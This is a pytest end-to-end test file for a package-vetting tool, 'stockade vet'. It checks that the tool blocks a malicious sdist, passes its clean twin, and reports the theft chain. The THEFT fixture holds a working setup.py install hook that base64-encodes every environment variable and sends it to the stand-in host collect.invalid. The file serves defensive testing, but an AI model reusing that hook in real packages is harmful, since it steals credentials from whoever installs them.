"""``stockade vet`` as it is installed, over inert packages: theft is blocked with its chain, the clean twin passes."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path
from typing import Any

import pytest
from tests.e2e.conftest import Machine

THEFT = """\
import base64, json, os, urllib.request
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        body = base64.b64encode(json.dumps(dict(os.environ)).encode())
        urllib.request.urlopen("https://collect.invalid/v1", body)
        super().run()


setup(name="acme-util", version="1.0", py_modules=["acme_util"], cmdclass={"install": Install})
"""
CLEAN = """\
import os
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        self.announce("installing for " + os.environ.get("LANG", "C"))
        super().run()


setup(name="acme-util", version="1.0", py_modules=["acme_util"], cmdclass={"install": Install})
"""
METADATA = "Metadata-Version: 2.1\nName: acme-util\nVersion: 1.0\nSummary: Small helpers for reports.\n"


def sdist(path: Path, setup: str) -> Path:
    """An sdist with this ``setup.py``; the code in it is never run."""
    files = {"setup.py": setup, "PKG-INFO": METADATA, "acme_util.py": "def add(a, b):\n    return a + b\n"}
    path.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(path, "w:gz") as archive:
        for name, text in files.items():
            member = tarfile.TarInfo(f"acme-util-1.0/{name}")
            member.size = len(text.encode())
            archive.addfile(member, io.BytesIO(text.encode()))
    return path


@pytest.fixture
def evil(machine: Machine) -> Path:
    return sdist(machine.home / "evil" / "acme-util-1.0.tar.gz", THEFT)


@pytest.fixture
def clean(machine: Machine) -> Path:
    return sdist(machine.home / "clean" / "acme-util-1.0.tar.gz", CLEAN)


def report(machine: Machine, *arguments: str | Path) -> tuple[int, dict[str, Any]]:
    done = machine.run("vet", "--format", "json", *arguments)
    assert done.stderr == ""
    return done.returncode, json.loads(done.stdout)


def test_theft_at_installation_is_blocked_with_its_chain(machine: Machine, evil: Path) -> None:
    code, found = report(machine, evil)
    assert code == 1
    (result,) = found["results"]
    assert (result["verdict"], result["project"], result["version"]) == ("block", "acme-util", "1.0")
    worst = result["findings"][0]
    assert (worst["severity"], worst["phase"]) == ("critical", "install")
    assert worst["chain"][0]["role"] == "source"
    assert "os.environ" in worst["chain"][0]["what"]
    assert any("base64" in step["what"] for step in worst["chain"])
    assert worst["chain"][-1]["role"] == "sink"
    assert "collect.invalid" in worst["chain"][-1]["what"]
    assert worst["location"]["path"].endswith("setup.py")
    assert any("urlopen" in text for _, text in worst["excerpt"])
    assert found["confinement"] == ["limits", "files", "calls"]


def test_its_clean_twin_passes(machine: Machine, clean: Path) -> None:
    code, found = report(machine, clean)
    (result,) = found["results"]
    assert (code, result["verdict"], result["incomplete"]) == (0, "allow", [])
    assert result["judged_by"]


def test_the_text_spells_out_the_chain(machine: Machine, evil: Path, clean: Path) -> None:
    done = machine.run("vet", evil, clean)
    assert done.returncode == 1
    assert done.stdout.index("BLOCK") < done.stdout.index("ALLOW")
    for words in ("from     os.environ", "through  base64.b64encode", "urllib.request.urlopen", "no network"):
        assert words in done.stdout


def test_a_truncated_archive_is_no_pass(machine: Machine, evil: Path) -> None:
    whole = evil.read_bytes()
    evil.write_bytes(whole[: len(whole) // 2])
    code, found = report(machine, evil)
    assert code in {1, 3}
    assert found["results"][0]["verdict"] in {"quarantine", "block"}
    assert found["results"][0]["incomplete"]


def test_a_release_that_begins_to_steal_is_told(machine: Machine, evil: Path, clean: Path) -> None:
    code, found = report(machine, "--diff", clean, evil)
    assert code == 1
    (result,) = found["results"]
    (theft,) = [each for each in result["findings"] if each["rule"] == "STK-E101"]
    assert "did nothing like it" in theft["message"]
    assert "STK-E168" not in {each["rule"] for each in result["findings"]}, "one fact is told once"
    assert report(machine, "--diff", evil, clean)[0] == 0


def test_a_source_tree_is_judged_as_it_lies(machine: Machine) -> None:
    folder = machine.write({"setup.py": THEFT, "acme_util.py": ""}, "tree")
    code, found = report(machine, folder)
    assert (code, found["results"][0]["kind"]) == (1, "folder")
